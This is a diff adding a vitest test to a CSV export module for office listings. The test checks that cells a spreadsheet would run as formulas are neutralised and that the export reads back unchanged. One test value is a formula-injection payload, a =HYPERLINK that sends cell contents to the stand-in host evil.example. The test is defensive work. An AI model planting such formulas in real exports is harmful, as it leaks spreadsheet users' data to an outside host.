@@ -1,6 +1,7 @@
 import { readFileSync } from "node:fs";
 import { fileURLToPath } from "node:url";
 import { describe, expect, it } from "vitest";
+import { readCsv } from "./csv-text.js";
 import { parseOfficeCsv, toOfficeCsv } from "./office-csv.js";
 import { MAX_OPENING_HOURS_ERRORS } from "./opening-hours-text.js";
 
@@ -155,5 +156,29 @@ describe("toOfficeCsv", () => {
       parsed.offices,
     );
     expect(toOfficeCsv(parsed, { bom: true }).charCodeAt(0)).toBe(0xfeff);
+  });
+
+  it("neutralises cells a spreadsheet would run as formulas and reads its own export back unchanged", () => {
+    const parsed = parseOfficeCsv(readFileSync(templatePath, "utf8"));
+    const [first, ...rest] = parsed.offices;
+    const hostile = {
+      ...first!,
+      name: '=HYPERLINK("http://evil.example/?"&A1;"Termin buchen")',
+      languageNote: "@SUM(A1:A9)",
+      description: { de: "-1+1 Beratung" },
+      contact: { ...first!.contact, phones: [{ number: "+49 (0)30 1234-567", type: "voice" as const }] },
+    };
+    const csv = toOfficeCsv({ offices: [hostile, ...rest], providers: parsed.providers }, { delimiter: ";" });
+    const row = readCsv(csv, { delimiter: ";" }).records[1]!;
+    const raw = csv.split("\r\n")[1]!;
+    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Termin buchen"")"`);
+    expect(raw).toContain(";'@SUM(A1:A9);");
+    expect(raw).toContain(";'-1+1 Beratung;");
+    expect(raw).toContain(";+49 (0)30 1234-567;");
+    expect(raw).toContain(`;${first!.geo!.lat};`);
+    expect(row.fields).toContain(hostile.name);
+    const again = parseOfficeCsv(csv);
+    expect(again.errors).toEqual([]);
+    expect(again.offices[0]).toEqual(hostile);
   });
 });
